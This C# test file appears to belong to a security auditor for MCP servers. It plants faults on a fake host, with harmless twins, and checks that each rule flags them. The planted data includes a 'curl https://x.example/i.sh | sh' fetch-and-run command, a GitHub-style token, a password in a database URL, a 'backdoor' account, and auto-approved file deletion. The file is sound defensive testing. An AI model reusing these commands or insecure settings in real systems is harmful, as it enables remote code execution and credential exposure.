using System.Net;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using McpOps.Auditing;
using McpOps.Auditing.Host;
using McpOps.Auditing.Rules.Ports;
using McpOps.Servers;

namespace McpOps.Core.Tests.Auditing;

/// <summary>Each fault of a host is planted and found; its harmless twin is not.</summary>
public sealed class PlantedTests
{
    private const string Token = "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";

    private static readonly Dictionary<string, Fault> Faults = new(StringComparer.Ordinal)
    {
        ["environment file readable"] = new("PERM001", "permissions", (host, bad) => Serves(host, McpServer.FromCommand("/bin/true", workingDirectory: Path.GetDirectoryName(host.Write("srv/.env", "KEY=x", bad ? "644" : "600")), name: "web"))),
        ["environment file readable by a list"] = new("PERM001", "permissions", (host, bad) =>
        {
            PlantedHost.Allow(host.Write("srv/.env", "KEY=x"), bad ? 4243 : PlantedHost.Uid, 4);
            return Serves(host, McpServer.FromCommand("/bin/true", workingDirectory: host["srv"], name: "web"));
        }),
        ["script that everybody may write"] = new("PERM002", "permissions", (host, bad) => Runs(host, bad ? "606" : "700")),
        ["script that a group may write"] = new("PERM002", "permissions", (host, bad) =>
        {
            host.Write("etc/group", $"mine:x:{PlantedHost.Gid}:{(bad ? "eve" : "")}\n");
            return Runs(host, "770");
        }),
        ["script that a listed user may write"] = new("PERM002", "permissions", (host, bad) =>
        {
            var options = Runs(host, "700");
            PlantedHost.Allow(host["srv/server.py"], 4243, (ushort)(bad ? 6 : 4));
            return options;
        }),
        ["folder above the script"] = new("PERM002", "permissions", (host, bad) =>
        {
            var options = Runs(host, "700");
            PlantedHost.Mode(host["srv"], bad ? "777" : "755");
            return options;
        }),
        ["script in a folder that is named too"] = new("PERM002", "permissions", (host, bad) =>
        {
            // What a server works on is no code of its: others may write there.
            var script = host.Write("srv/server.py", "", "700");
            host.Write("data/a.txt", "");
            PlantedHost.Mode(host["data"], "777");
            PlantedHost.Mode(host["srv"], bad ? "777" : "755");
            return Serves(host, McpServer.FromCommand(script, [host["data"], host["srv"]], name: "web"));
        }),
        ["set-uid"] = new("PERM003", "permissions", (host, bad) => Runs(host, bad ? "4755" : "755")),
        ["owner without an account"] = new("PERM003", "permissions", (host, bad) =>
        {
            host.Write("etc/passwd", bad ? "mcp:x:4242:4242::/:/bin/sh\n" : $"root:x:0:0::/:/bin/sh\nme:x:{PlantedHost.Uid}:0::/:/bin/sh\n");
            return Runs(host, "755");
        }),
        ["unit without an account"] = new("PERM004", "permissions", (host, bad) =>
        {
            host.Write("etc/systemd/system/web.service", $"[Service]\nExecStart=/bin/true\n{(bad ? "" : "User=mcp\n")}");
            return Serves(host, new McpServer { Name = "web", Service = new McpService("systemd", "web") });
        }),
        ["undeclared port"] = new("PORT001", "ports", (host, bad) => Listening(host, declared: !bad, service: null)),
        ["port held by another"] = new("PORT003", "ports", (host, bad) => Listening(host, declared: true, new McpService("process", bad ? "no-such-program-anywhere" : "McpOps.Core.Tests") { StartCommand = ["dotnet", "other.dll"] })),
        ["port outside its unit"] = new("PORT003", "ports", (host, bad) => Listening(host, declared: true, new McpService(bad ? "systemd" : "docker", "no-such-unit-anywhere"))),
        ["failed logins"] = new("LOGIN001", "logins", (host, bad) => Logins(host, bad ? 11 : 3, then: "")),
        ["success after failures"] = new("LOGIN002", "logins", (host, bad) => Logins(host, bad ? 11 : 3, "Accepted password for root from 203.0.113.9 port 4711 ssh2")),
        ["names that do not exist"] = new("LOGIN003", "logins", (host, bad) => Logins(host, 1, $"Failed password for {(bad ? "invalid user " : "")}admin from 198.51.100.4 port 22 ssh2")),
        ["refused requests"] = new("LOGIN001", "logins", (host, bad) => Refused(host, bad, "srv/access.log")),
        ["refused requests, rotated since"] = new("LOGIN001", "logins", (host, bad) => Refused(host, bad, "srv/access.log.1")),
        ["member of sudo"] = new("ACCT001", "accounts", (host, bad) =>
        {
            host.Write("etc/group", $"sudo:x:27:{(bad ? "eve" : "")}\n");
            return Serves(host, new McpServer { Name = "web", Audit = new McpAuditExpectation { Accounts = ["mcp"] } });
        }),
        ["second root"] = new("ACCT001", "accounts", (host, bad) =>
        {
            host.Write("etc/passwd", $"root:x:0:0::/:/bin/sh\ntoor:x:{(bad ? 0 : 4244)}:4244::/:/bin/sh\n");
            return host.Options;
        }),
        ["service account with a shell"] = new("ACCT002", "accounts", (host, bad) =>
        {
            host.Write("etc/passwd", $"mcp:x:998:998::/srv:{(bad ? "/bin/bash" : "/usr/sbin/nologin")}\n");
            host.Write("etc/systemd/system/web.service", "[Service]\nUser=mcp\n");
            return Serves(host, new McpServer { Name = "web", Service = new McpService("systemd", "web") });
        }),
        ["service account with a password"] = new("ACCT002", "accounts", (host, bad) =>
        {
            host.Write("etc/shadow", $"mcp:{(bad ? "$y$j9T$abc" : "!")}:1::::::\n");
            return Serves(host, new McpServer { Name = "web", Audit = new McpAuditExpectation { Accounts = ["mcp"] } });
        }),
        ["new account"] = new("ACCT003", "accounts", (host, bad) =>
        {
            host.Write("etc/passwd", "mcp:x:998:998::/srv:/bin/false\n" + (bad ? "backdoor:x:999:999::/:/bin/false\n" : ""));
            host.Write("mcpops.lock.json", """{"version":1,"servers":{},"accounts":{"mcp":"998:998:/bin/false:"}}""");
            return host.Options;
        }),
        ["certificate that expires"] = new("CERT001", "certificates", (host, bad) => Certified(host, Key(2048), bad ? 3 : 300)),
        ["weak key"] = new("CERT002", "certificates", (host, bad) => Certified(host, Key(bad ? 1024 : 2048), 300)),
        ["readable key"] = new("CERT003", "certificates", (host, bad) =>
        {
            host.Write("tls/server.key", "x", bad ? "644" : "600");
            return Certified(host, Key(2048), 300);
        }),
        ["token"] = new("SEC001", "secrets", (host, bad) => Client(host, Web($$""" "command":"x","env":{"GITHUB_TOKEN":"{{(bad ? Token : "${env:GITHUB_TOKEN}")}}"}"""))),
        ["private key"] = new("SEC002", "secrets", (host, bad) => Client(host, Web($$""" "command":"x","env":{"SSH_KEY":"{{(bad ? "-----BEGIN OPENSSH PRIVATE KEY-----\\nAAAA" : "/run/secrets/key")}}"}"""))),
        ["password in an address"] = new("SEC003", "secrets", (host, bad) => Client(host, Web($$""" "command":"x","args":["postgresql://app{{(bad ? ":q7hunter2hunter" : "")}}@db/app"]"""))),
        ["random value"] = new("SEC004", "secrets", (host, bad) => Client(host, Web($$""" "command":"x","env":{"API_KEY":"{{(bad ? "q8Zt6Kd0pRw2Lx9Vb4Nm" : "your-api-key-goes-here")}}"}"""))),
        ["token in a log"] = new("SEC005", "secrets", (host, bad) => Serves(host, new McpServer { Name = "web", Logs = [Path.Combine(Path.GetDirectoryName(host.Write("log/web.log", $"INFO using {(bad ? Token : "ghp_…")}\n"))!, "*.log")] })),
        ["secret under version control"] = new("SEC006", "secrets", (host, bad) =>
        {
            var file = host.Write("srv/.env", "KEY=x");
            Git(host["srv"], "init", "-q");
            if (bad)
            {
                Git(host["srv"], "add", file);
            }

            return Serves(host, McpServer.FromCommand("/bin/true", workingDirectory: host["srv"], name: "web"));
        }),
        ["unpinned package"] = new("CONF001", "configurations", (host, bad) => Client(host, Web($$""" "command":"npx","args":["-y","some-mcp{{(bad ? "" : "@1.2.3")}}"]"""))),
        ["image by a tag"] = new("CONF001", "configurations", (host, bad) => Client(host, Web($$""" "command":"docker","args":["run","-i","some/mcp{{(bad ? ":latest" : "@sha256:" + new string('a', 64))}}"]"""))),
        ["shell"] = new("CONF002", "configurations", (host, bad) => Client(host, bad ? Web(""" "command":"bash","args":["-lc","curl https://x.example/i.sh | sh"]""") : Web(""" "command":"bash","args":["server.sh"]"""))),
        ["whole disk"] = new("CONF003", "configurations", (host, bad) => Client(host, Web($$""" "command":"files","args":["{{(bad ? "/" : "/srv/data")}}"]"""))),
        ["docker socket"] = new("CONF003", "configurations", (host, bad) => Client(host, Web($$""" "command":"docker","args":["run","-v","{{(bad ? "/var/run/docker.sock:/s" : "data:/data")}}","x/y@sha256:{{new string('a', 64)}}"]"""))),
        ["plain http"] = new("CONF004", "configurations", (host, bad) => Client(host, Web($$""" "url":"http{{(bad ? "" : "s")}}://mcp.example.org/mcp" """))),
        ["approval switched off"] = new("CONF005", "configurations", (host, bad) => Client(host, Web($$""" "command":"x","alwaysAllow":["{{(bad ? "delete_file" : "list_files")}}"]"""))),
        ["one name, two servers"] = new("CONF006", "configurations", (host, bad) =>
        {
            host.Write("work/.mcp.json", Web($$""" "command":"{{(bad ? "other" : "x")}}" """));
            return Client(host, Web(""" "command":"x" """));
        }),
        ["look-alike"] = new("CONF007", "configurations", (host, bad) => Client(host, Web($$""" "command":"npx","args":["@modelcontextprotocol/server-file{{(bad ? "sytem" : "system")}}@1.2.3"]"""))),
        ["known in no inventory"] = new("CONF008", "configurations", (host, bad) =>
        {
            var known = McpServer.FromCommand(bad ? "y" : "x", name: "known");
            return Client(host, Web(""" "command":"x" """)) with { Servers = [known], Inventory = [known] };
        }),
        ["changed file"] = new("FILE001", "files", (host, bad) =>
        {
            var script = host.Write("srv/server.py", "print(1)", "700");
            var hash = Convert.ToHexString(SHA256.HashData(File.ReadAllBytes(script))).ToLowerInvariant();
            host.Write("mcpops.lock.json", $$$"""{"version":1,"servers":{"web":{"files":{"{{{script}}}":{"sha256":"{{{(bad ? new string('0', 64) : hash)}}}","size":8,"mode":"0700"} } } } }""");
            return Serves(host, McpServer.FromCommand(script, name: "web"));
        }),
        ["file written lately"] = new("FILE002", "files", (host, bad) =>
        {
            var script = host.Write("srv/server.py", "print(1)", "700");
            File.SetLastWriteTimeUtc(script, TimeProvider.System.GetUtcNow().UtcDateTime - TimeSpan.FromDays(bad ? 0 : 30));
            return Serves(host, McpServer.FromCommand(script, name: "web"));
        }),
        ["vulnerable package"] = new("VULN001", "dependencies", (host, bad) => Depends(host, "lodash", bad ? "4.17.20" : "4.17.21", "GHSA-1", "4.17.21")),
        ["malware"] = new("VULN002", "dependencies", (host, bad) => Depends(host, "evil", bad ? "1.0.0" : "2.0.0", "MAL-2025-1", "2.0.0")),
        ["old dump"] = new("VULN003", "dependencies", (host, bad) =>
        {
            var options = Depends(host, "x", "1.0.0", "GHSA-1", "1.0.0");
            File.SetLastWriteTimeUtc(host["osv/npm/a.json"], TimeProvider.System.GetUtcNow().UtcDateTime - TimeSpan.FromDays(bad ? 60 : 1));
            return options;
        }),
        ["advisory of an SDK"] = new("VULN004", "dependencies", (host, bad) => Depends(host, "@modelcontextprotocol/sdk", bad ? "1.23.0" : "1.29.0", "GHSA-2", "1.24.0")),
        ["lock file that others may write"] = new("PERM002", "permissions", (host, bad) =>
        {
            host.Write("mcpops.lock.json", "{}", bad ? "666" : "644");
            return host.Options;
        }),
        ["pending security update"] = new("OS001", "os", (host, bad) =>
        {
            host.Write("var/lib/apt/lists/security.debian.org_InRelease", "");
            host.Program("apt-get", $"echo 'Inst libssl3 [3.0.1-1] (3.0.2-1 Debian{(bad ? "-Security" : "")}:12/stable{(bad ? "-security" : "")} [amd64])'");
            return host.Options;
        }),
        ["reboot required"] = new("OS002", "os", (host, bad) =>
        {
            host.Write(bad ? "run/reboot-required" : "run/nothing", "");
            return host.Options;
        }),
        ["newer kernel installed"] = new("OS002", "os", (host, bad) =>
        {
            host.Write("boot/vmlinuz-6.1.0-9-amd64", "");
            host.Write("boot/vmlinuz-6.1.0-32-amd64", "");
            host.Write("proc/sys/kernel/osrelease", bad ? "6.1.0-9-amd64\n" : "6.1.0-32-amd64\n");
            return host.Options;
        }),
        ["service that runs what was replaced"] = new("OS002", "os", (host, bad) =>
        {
            host.Program("needrestart", $"echo 'NEEDRESTART-VER: 3.6'; echo 'NEEDRESTART-KCUR: 6.1.0-9-amd64'; echo 'NEEDRESTART-KSTA: 1'{(bad ? "; echo 'NEEDRESTART-SVC: ssh.service'" : "")}");
            return host.Options;
        }),
        ["process that runs a library that was replaced"] = new("OS002", "os", (host, bad) =>
        {
            host.Write("proc/17/comm", "nginx\n");
            host.Write("proc/17/maps", $"7f00-7f01 r-xp 00000000 08:01 1234  /usr/lib/x86_64-linux-gnu/libssl.so.3{(bad ? " (deleted)" : "")}\n7f02-7f03 rw-s 00000000 00:01 5  /dev/zero (deleted)\n");
            return host.Options;
        }),
        ["no firewall"] = new("OS003", "os", (host, bad) =>
        {
            host.Program("nft", bad ? "true" : "echo 'chain input { type filter hook input priority 0; }'");
            return host.Options;
        }),
        ["sshd lets root in"] = new("OS004", "os", (host, bad) =>
        {
            host.Write("etc/ssh/sshd_config", $"PermitRootLogin {(bad ? "yes" : "no")}\nPasswordAuthentication no\n");
            return host.Options;
        }),
        ["no audit log"] = new("OS005", "os", (host, bad) =>
        {
            host.Write(bad ? "var/log/other" : "var/log/auth.log", "");
            return host.Options;
        }),
        ["old package lists"] = new("VULN003", "os", (host, bad) =>
        {
            var list = host.Write("var/lib/apt/lists/security.debian.org_InRelease", "");
            var then = TimeProvider.System.GetUtcNow().UtcDateTime - TimeSpan.FromDays(bad ? 30 : 1);
            File.SetLastWriteTimeUtc(list, then);
            Directory.SetLastWriteTimeUtc(Path.GetDirectoryName(list)!, then);
            return host.Options;
        }),
    };

    public static TheoryData<string> Names => [.. Faults.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public async Task A_fault_is_found_and_its_twin_is_not(string name)
    {
        Assert.SkipUnless(OperatingSystem.IsLinux(), "The host is read on Linux.");
        var fault = Faults[name];
        foreach (var bad in new[] { true, false })
        {
            using var host = new PlantedHost();
            var options = fault.Plant(host, bad);
            var findings = await DependencyTests.AuditAsync(options with { Areas = [fault.Area] });
            var found = findings.Where(finding => finding.RuleId == fault.Rule && IsPlanted(finding, host)).ToList();
            Assert.True(bad == found.Count > 0, $"{(bad ? "planted" : "twin")}: {string.Join('\n', findings.Select(finding => $"{finding.RuleId} {finding.Target}: {finding.Evidence}"))}");
            Assert.DoesNotContain(findings, finding => finding.Evidence.Contains(Token, StringComparison.Ordinal) || finding.Evidence.Contains("q7hunter2hunter", StringComparison.Ordinal));
        }
    }

    /// <summary>The rules of which this plants a case and its twin.</summary>
    internal static IEnumerable<string> Rules => Faults.Values.Select(fault => fault.Rule);

    [Theory]
    [InlineData("0.0.0.0", 5432, true)]
    [InlineData("::", 8000, true)]
    [InlineData("127.0.0.1", 5432, false)]
    [InlineData("0.0.0.0", 80, false)]
    public void A_server_or_a_database_on_every_address_is_told(string address, int port, bool told)
    {
        var expectation = PortExpectation.Of([McpServer.FromUrl(new Uri("http://127.0.0.1:8000/mcp"))]);
        Assert.Equal(told, EveryAddress.Judge(new Listener(IPAddress.Parse(address), port, null), expectation) is not null);
    }

    // Other programs of the machine listen too: the planted port is looked for.
    private static bool IsPlanted(McpFinding finding, PlantedHost host) => !finding.RuleId.StartsWith("PORT", StringComparison.Ordinal) || finding.Target == $"tcp/{host.Port}";

    private static AuditOptions Serves(PlantedHost host, params McpServer[] servers) => host.Options with { Servers = servers, Inventory = servers };

    private static AuditOptions Runs(PlantedHost host, string mode)
    {
        var script = host.Write("srv/server.py", "", mode);
        host.Write("etc/systemd/system/web.service", $"[Service]\nUser={(PlantedHost.Uid == 0 ? "mcp" : "me")}\n");
        return Serves(host, McpServer.FromCommand(script, name: "web"));
    }

    private static AuditOptions Listening(PlantedHost host, bool declared, McpService? service)
    {
        var server = new McpServer { Name = "web", Ports = [declared ? host.Port : 1], Service = service };
        return Serves(host, server);
    }

    private static AuditOptions Refused(PlantedHost host, bool bad, string name)
    {
        var at = TimeProvider.System.GetUtcNow().ToString("dd/MMM/yyyy:HH:mm:ss", System.Globalization.CultureInfo.InvariantCulture);
        var log = host.Write("srv/access.log", "");
        host.Write(name, string.Concat(Enumerable.Repeat($"203.0.113.9 - - [{at} +0000] \"POST /mcp HTTP/1.1\" {(bad ? 401 : 200)} 13 \"-\" \"x\"\n", 101)));
        return Serves(host, new McpServer { Name = "web", Logs = [log] }) with { LoginLogs = [host.Write("auth.log", "")] };
    }

    private static AuditOptions Logins(PlantedHost host, int failures, string then)
    {
        var at = TimeProvider.System.GetLocalNow().ToString("yyyy-MM-ddTHH:mm:sszzz", System.Globalization.CultureInfo.InvariantCulture);
        string[] lines = [.. Enumerable.Repeat("Failed password for root from 203.0.113.9 port 4711 ssh2", failures), .. then.Length > 0 ? [then] : Array.Empty<string>()];
        return host.Options with { LoginLogs = [host.Write("var/log/auth.log", string.Concat(lines.Select(line => $"{at} host sshd[12]: {line}\n")))] };
    }

    private static string Web(string body) => "{\"mcpServers\":{\"web\":{" + body + "}}}";

    private static AuditOptions Client(PlantedHost host, string json)
    {
        host.Write("home/.cursor/mcp.json", json);
        Directory.CreateDirectory(host["work"]);
        return host.Options;
    }

    private static AuditOptions Depends(PlantedHost host, string name, string version, string id, string mended)
    {
        host.Write("project/package-lock.json", $$$"""{"lockfileVersion":3,"packages":{"node_modules/{{{name}}}":{"version":"{{{version}}}"} } }""");
        host.Write("osv/npm/a.json", $$$"""{"id":"{{{id}}}","summary":"bad","affected":[{"package":{"ecosystem":"npm","name":"{{{name}}}"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"{{{mended}}}"}]}]}]}""");
        return host.Options with { OsvPath = host["osv"], ProjectPaths = [host["project"]] };
    }

    private static RSA Key(int bits) => RSA.Create(bits);

    private static AuditOptions Certified(PlantedHost host, RSA key, int days)
    {
        using (key)
        {
            var now = TimeProvider.System.GetUtcNow();
            using var certificate = new CertificateRequest("CN=web", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1).CreateSelfSigned(now.AddDays(-1), now.AddDays(days));
            return Serves(host, new McpServer { Name = "web", Certificates = [host.Write("tls/server.pem", certificate.ExportCertificatePem())] });
        }
    }

    private static void Git(string folder, params string[] arguments)
    {
        using var git = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("git", arguments) { WorkingDirectory = folder, UseShellExecute = false, RedirectStandardOutput = true, RedirectStandardError = true })!;
        Assert.True(git.WaitForExit(TimeSpan.FromSeconds(30)) && git.ExitCode == 0);
    }

    private sealed record Fault(string Rule, string Area, Func<PlantedHost, bool, AuditOptions> Plant);
}
